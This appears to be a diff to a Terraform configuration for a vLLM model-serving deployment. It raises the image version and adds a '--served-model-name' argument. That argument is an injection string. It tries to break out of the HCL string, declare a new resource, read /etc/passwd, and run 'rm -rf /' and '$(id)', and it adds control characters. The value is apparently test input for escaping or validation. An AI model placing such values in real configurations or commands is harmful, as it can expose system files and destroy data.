@@ -20,13 +20,14 @@ locals {
     eastus-1x-resource-null-resourc-2752f9 = {
       region       = "eastus"
       weight       = 1000
-      image        = "vllm/vllm-openai:v0.30.0"
+      image        = "vllm/vllm-openai:v0.33.0"
       model        = null
       checkpoint   = "the hub name of the planned model"
       entrypoint   = "vllm"
       command      = ["serve"]
       model_option = ""
       arguments = [
+        "--served-model-name=\"}\nresource \"null_resource\" \"x\" {} $${file(\"/etc/passwd\")} %%{ if true }`rm -rf /`$(id) | # \\ 'EOF' \u202e\u0000",
         "--dtype=half",
         "--tensor-parallel-size=1",
         "--max-model-len=8192",
